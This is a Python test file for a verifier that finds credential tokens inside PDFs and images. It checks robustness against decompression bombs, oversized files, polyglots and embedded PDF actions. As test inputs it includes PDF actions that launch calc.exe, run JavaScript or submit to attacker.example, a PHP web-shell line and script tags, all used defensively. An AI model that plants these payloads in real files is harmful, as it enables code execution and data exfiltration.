"""P03-P07, P09, P13: a PDF is looked through for whole tokens; nothing else in it is read, run or repeated."""

from __future__ import annotations

import io
import struct
import time
import tracemalloc
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from msgspec.structs import replace

from keys.credential import Evidence
from keys.encoding import b64url_encode
from tests.verifier.pdf import pdf_with, resaved, save
from tests.verifier.photographs import baked_png
from tests.world import World
from verifier.carrier import MAX_CARRIER_BYTES, MAX_STREAMS, Candidates, credentials_in, verify_carried
from verifier.report import Outcome, Report, Verdict

MAX_SECONDS = 1.0


@pytest.fixture
def token(world: World) -> bytes:
    return world.issue()


def report_on(world: World, data: bytes) -> Report:
    return verify_carried(data, world.materials(), at=world.now, now=world.now)


def shown(world: World, data: bytes) -> str:
    """The name that an employer is told."""
    certificate = report_on(world, data).certificate
    assert certificate is not None
    return certificate.printed_name


def bounded(data: bytes) -> Candidates:
    """The candidates, found within a second of processor time and 4 MiB of memory beyond the file."""
    tracemalloc.start()
    try:
        found = credentials_in(data)
        assert tracemalloc.get_traced_memory()[1] < 4 * 1024 * 1024
    finally:
        tracemalloc.stop()
    started = time.process_time()
    assert credentials_in(data) == found
    assert time.process_time() - started < MAX_SECONDS
    return found


def test_P03_somebody_elses_genuine_token_shows_the_other_person(world: World, token: bytes) -> None:
    assert shown(world, pdf_with(token)) == "สมชาย ปิ่นทอง"
    assert shown(world, pdf_with(world.issue(name="Malee Suksan"))) == "Malee Suksan"


OB = "https://purl.imsglobal.org/ob/v3p0"


def svg(*inner: str, head: str = "") -> bytes:
    return f'{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="{OB}">{"".join(inner)}</svg>'.encode()


def in_svg(token: str) -> str:
    return f'<o:credential verify="{token}"/>'


def in_png(text: bytes, start: bytes = b"\0\0\0\0") -> bytes:
    return start + text


# A picture with a genuine credential that one way of reading finds alone, and another together with a second one.
SECOND: dict[str, Callable[[bytes, bytes], bytes]] = {
    "plain": lambda one, two: baked_png(in_png(one), in_png(two)),
    "no token": lambda one, two: baked_png(in_png(one), in_png(b"something else")),
    "an empty one": lambda one, two: baked_png(in_png(one), in_png(b"")),
    "another flag": lambda one, two: baked_png(in_png(one), in_png(two, b"\2\0\0\0")),
    "packed": lambda one, two: baked_png(in_png(one), in_png(zlib.compress(two), b"\1\0\0\0")),
    "packed with more behind": lambda one, two: baked_png(in_png(one), in_png(zlib.compress(two) + b"x", b"\1\0\0\0")),
    "packed and no token": lambda one, two: baked_png(in_png(one), in_png(zlib.compress(b"x"), b"\1\0\0\0")),
    "too long": lambda one, two: baked_png(in_png(one), in_png(b"a" * 30_000 + two)),
    "a chunk without an end": lambda one, two: baked_png(in_png(one))[:-12] + (
        struct.pack(">I", 50_000) + b"iTXtopenbadgecredential\0" + in_png(two)
    ),
    "svg": lambda one, two: svg(in_svg(one.decode()), in_svg(two.decode())),
    "svg with codes of letters": lambda one, two: svg(in_svg(one.decode()), in_svg(two.decode().replace(".", "&#46;"))),
    "svg with a line break": lambda one, two: svg(in_svg(one.decode()), in_svg(f"\n{two.decode()} ")),
    "svg and no token": lambda one, two: svg(in_svg(one.decode()), in_svg("something else")),
    "svg with another name for the namespace": lambda one, two: svg(
        in_svg(one.decode()), f'<credential xmlns="{OB}" verify="{two.decode()}"/>'
    ),
}  # fmt: skip
# A picture in which the credential does not stand where one belongs.
ELSEWHERE: dict[str, Callable[[bytes], bytes]] = {
    "in a comment": lambda one: svg(f"<!-- {in_svg(one.decode())} -->"),
    "in a text": lambda one: svg(f"<text><![CDATA[{in_svg(one.decode())}]]></text>"),
    "in another namespace": lambda one: svg(f'<credential verify="{one.decode()}"/>'),
    "without an end": lambda one: svg(in_svg(one.decode()))[:-6],
    "behind entities": lambda one: svg(in_svg(one.decode()), head='<!DOCTYPE svg [<!ENTITY a "b">]>'),
    "behind kinds of attributes": lambda one: svg(
        in_svg(one.decode()), head='<!DOCTYPE svg [<!ATTLIST a b CDATA "c">]>'
    ),
    "in a png that is called svg": lambda one: baked_png(in_png(b"<svg"), in_png(one)),
    "packed and cut": lambda one: baked_png(in_png(zlib.compress(one)[:-20], b"\1\0\0\0")),
    "packed with another sum": lambda one: baked_png(in_png(zlib.compress(one)[:-1] + b"\0", b"\1\0\0\0")),
}


@pytest.mark.parametrize("way", SECOND)
def test_P03_a_picture_with_a_second_credential_is_nobodys(world: World, token: bytes, way: str) -> None:
    data = SECOND[way](token, world.issue(name="Malee Suksan"))
    assert report_on(world, data).verdict is Verdict.INVALID


@pytest.mark.parametrize("way", ELSEWHERE)
def test_P03_a_credential_that_is_not_baked_in_does_not_count(world: World, token: bytes, way: str) -> None:
    assert report_on(world, ELSEWHERE[way](token)).verdict is Verdict.UNKNOWN


def test_P03_the_old_token_left_behind_by_an_incremental_update_is_noticed(world: World, token: bytes) -> None:
    data = pdf_with(token)
    stream = zlib.compress(world.issue(name="Malee Suksan"))
    update = b"\n9 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream\nendobj\n%%%%EOF\n" % (
        len(stream),
        stream,
    )
    assert report_on(world, data + update).verdict is Verdict.INVALID


def stream(content: bytes, dictionary: bytes = b"/Filter /FlateDecode") -> bytes:
    return b"1 0 obj\n<< %s >>\nstream\n%s\nendstream\nendobj\n" % (dictionary, content)


def hostile(kind: str, token: bytes) -> bytes:
    head = b"%PDF-1.7\n"
    long_token = zlib.compress(b"eyJ" + b"A" * 10_000_000)
    match kind:
        case "50 MB of nothing":
            return head + bytes(MAX_CARRIER_BYTES - len(head))
        case "50 MB of the word stream":
            return (head + b">>\nstream\n" * 5_000_000)[:MAX_CARRIER_BYTES]
        case "50 MB of streams":
            return (head + b">>stream\nendstream" * 3_000_000)[:MAX_CARRIER_BYTES]
        case "streams without an end":
            return (head + b"endobj >>stream\n" * 3_000_000)[:MAX_CARRIER_BYTES]
        case "10,000 streams":
            return head + stream(zlib.compress(b"BT /F1 12 Tf (Hello) Tj ET" * 20)) * 10_000
        case "10,000 tokens":
            return head + b"".join(stream(b"eyJ%d.e30.e30" % n, b"") for n in range(10_000))
        case "10,000 long tokens":
            return head + stream(long_token) * 10_000
        case "80 MB in 78 KB":
            return head + stream(zlib.compress(b"eyJ" + bytes(80_000_000)))
        case "80 MB in 78 KB of other text":
            return head + stream(zlib.compress(bytes(80_000_000))) * 500
        case "large text":
            return (token + b".") * (MAX_CARRIER_BYTES // (len(token) + 1))
        case "spaces":
            return b" " * (MAX_CARRIER_BYTES - 1) + b"x"
    raise AssertionError(kind)


@pytest.mark.parametrize(
    "kind",
    [
        "50 MB of nothing",
        "50 MB of the word stream",
        "50 MB of streams",
        "streams without an end",
        "10,000 streams",
        "10,000 long tokens",
        "80 MB in 78 KB",
        "80 MB in 78 KB of other text",
        "spaces",
    ],
)
def test_P04_a_hostile_file_costs_little(world: World, token: bytes, kind: str) -> None:
    data = hostile(kind, token)
    assert bounded(data).tokens == ()
    assert report_on(world, data).verdict is Verdict.UNKNOWN


@pytest.mark.parametrize("kind", ["10,000 tokens", "large text"])
def test_P04_many_tokens_cost_little(world: World, token: bytes, kind: str) -> None:
    started = time.process_time()
    assert report_on(world, hostile(kind, token)).verdict in (Verdict.INVALID, Verdict.UNKNOWN)
    assert time.process_time() - started < MAX_SECONDS


@pytest.mark.parametrize("deflated", [True, False])
def test_P04_one_certificate_under_many_signatures_costs_little(world: World, token: bytes, deflated: bool) -> None:
    evidence = tuple(Evidence(type=("Evidence",), name="Live check", narrative="ก้" * 180) for _ in range(32))
    signed = world.issue(core=replace(world.core(), evidence=evidence)).rpartition(b".")[0]
    tokens = (signed + b"." + b64url_encode(bytes(60) + n.to_bytes(4, "big")).encode() for n in range(200))
    streams = (stream(zlib.compress(text, 1)) if deflated else stream(text, b"") for text in tokens)
    data = b"%PDF-1.7\n" + b"".join(streams)
    started = time.process_time()
    assert report_on(world, data).verdict is Verdict.UNKNOWN
    assert time.process_time() - started < MAX_SECONDS / 2


def test_P04_a_file_larger_than_the_limit_is_not_looked_at(world: World, token: bytes) -> None:
    data = pdf_with(token)
    assert credentials_in(data + bytes(MAX_CARRIER_BYTES - len(data))).tokens == (token,)
    assert credentials_in(data + bytes(MAX_CARRIER_BYTES - len(data) + 1)).tokens == ()


@pytest.mark.parametrize(("streams", "found"), [(MAX_STREAMS - 1, 1), (MAX_STREAMS, 0)])
def test_P04_more_streams_than_are_looked_at_are_unknown_not_half_read(token: bytes, streams: int, found: int) -> None:
    data = b"%PDF-1.7\n" + stream(zlib.compress(token)) + stream(b"x", b"") * (streams - 1)
    assert len(credentials_in(data).tokens) == found


@pytest.mark.parametrize(
    "action",
    [
        {"/S": "/JavaScript", "/JS": "app.alert('run')"},
        {"/S": "/Launch", "/F": "calc.exe"},
        {"/S": "/URI", "/URI": "http://attacker.example/"},
        {"/S": "/GoToR", "/F": "//attacker.example/share/x.pdf"},
        {"/S": "/SubmitForm", "/F": "http://attacker.example/"},
    ],
    ids=lambda action: action["/S"][1:],
)
def test_P05_what_a_pdf_wants_done_is_neither_done_nor_repeated(
    world: World, token: bytes, action: dict[str, str]
) -> None:
    pdf = pikepdf.open(io.BytesIO(pdf_with(token)))
    members = {
        name: pikepdf.Name(value) if value.startswith("/") and name == "/S" else pikepdf.String(value)
        for name, value in action.items()
    }
    pdf.Root.OpenAction = pikepdf.Dictionary(members)
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xfa>attacker.example</xfa>"))
    report = report_on(world, save(pdf))
    assert report.verdict is Verdict.VALID
    told = str(report.as_json("file.pdf"))
    assert not any(word in told for word in ("app.alert", "calc.exe", "attacker.example"))


@pytest.mark.parametrize(
    "dress",
    [
        lambda pdf: b"<html><script>alert(1)</script>\n" + pdf,
        lambda pdf: b"#!/bin/sh\necho\n" + pdf,
        lambda pdf: b"<?php system($_GET[0]); ?>\n" + pdf,
        lambda pdf: b"\x89PNG\r\n\x1a\n" + pdf,
        lambda pdf: pdf + b"PK\x05\x06" + bytes(18),
        lambda pdf: pdf + b"<script>alert(1)</script>",
    ],
    ids=["html", "shell", "php", "png", "zip", "trailing script"],
)
def test_P06_a_file_that_is_also_something_else(world: World, token: bytes, dress: Callable[[bytes], bytes]) -> None:
    data = dress(pdf_with(token))
    report = report_on(world, data)
    assert report.verdict is Verdict.VALID
    assert not any(word in str(report.as_json("x")) for word in ("<script", "system(", "/bin/sh"))


def test_P07_an_encrypted_pdf_is_unknown(world: World, token: bytes) -> None:
    for encryption in (
        pikepdf.Encryption(owner="o", user="u"),
        pikepdf.Encryption(owner="o", R=4, aes=False, metadata=False),
    ):
        report = report_on(world, resaved(pdf_with(token), encryption=encryption))
        assert report.verdict is Verdict.UNKNOWN
        assert "could not be read" in report.check("token.form").text


@pytest.mark.parametrize("kept", [5, 50, 300, 0.5, 0.9])
def test_P07_a_damaged_pdf_is_unknown(world: World, token: bytes, kept: float) -> None:
    data = pdf_with(token)
    end = data.index(b"endstream", data.index(zlib.compress(token)))
    report = report_on(world, data[: int(kept if kept > 1 else kept * end)])
    assert report.verdict is Verdict.UNKNOWN
    assert report.check("token.form").outcome is Outcome.UNKNOWN


def test_P07_a_flipped_bit_anywhere_in_the_token_is_never_valid(world: World, token: bytes) -> None:
    data, packed = pdf_with(token), zlib.compress(token)
    start, materials = data.index(packed), world.materials()
    for offset in range(0, len(packed), max(1, len(packed) // 60)):
        broken = bytearray(data)
        broken[start + offset] ^= 0x10
        report = verify_carried(bytes(broken), materials, at=world.now, now=world.now)
        assert report.verdict in (Verdict.UNKNOWN, Verdict.INVALID)


@pytest.mark.parametrize(
    "options",
    [
        {"compress_streams": True, "recompress_flate": True},
        {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
        {"linearize": True},
        {"qdf": True},
        {"stream_decode_level": pikepdf.StreamDecodeLevel.all, "compress_streams": False},
    ],
    ids=["recompressed", "object streams", "linearised", "readable", "uncompressed"],
)
def test_P09_a_file_saved_again_by_another_program(world: World, token: bytes, options: dict[str, object]) -> None:
    for compress in (True, False):
        assert report_on(world, resaved(pdf_with(token, compress=compress), **options)).verdict is Verdict.VALID


def test_P09_a_file_without_its_attachment_is_unknown(world: World) -> None:
    report = report_on(world, pdf_with(b"BT (Certificate) Tj ET"))
    assert report.verdict is Verdict.UNKNOWN
    assert "the clinic's own file" in report.check("token.form").text.lower()


@pytest.mark.parametrize("compress", [True, False])
@pytest.mark.parametrize(
    "change",
    [
        lambda token: token[:100] + b"\n" + token[100:],
        lambda token: token[:100] + b"\r\n " + token[100:],
        lambda token: b"Certificate: " + token,
        lambda token: token + b" (signed)",
        lambda token: b"(" + token + b") Tj",
        lambda token: token + b"\n" + token,
        lambda token: token + b".x",
        lambda token: token + b"=",
        lambda token: token.replace(b".", b"", 1),
        lambda token: b"\xef\xbb\xbf" + token,
        lambda token: token.decode().encode("utf-16"),
    ],
)
def test_P13_only_a_whole_token_is_a_candidate(
    world: World, token: bytes, change: Callable[[bytes], bytes], compress: bool
) -> None:
    report = report_on(world, pdf_with(change(token), compress=compress))
    assert report.verdict is Verdict.UNKNOWN


def test_P13_a_token_inside_the_text_of_another_stream_is_none(world: World, token: bytes) -> None:
    inner = b"Hello\n<< >>\nstream\n" + token + b"\n"
    assert credentials_in(pdf_with(inner, compress=False)).tokens == ()


def test_P13_a_line_end_after_the_token_does_no_harm(world: World, token: bytes) -> None:
    for compress in (True, False):
        assert credentials_in(pdf_with(token + b"\r\n", compress=compress)).tokens == (token,)
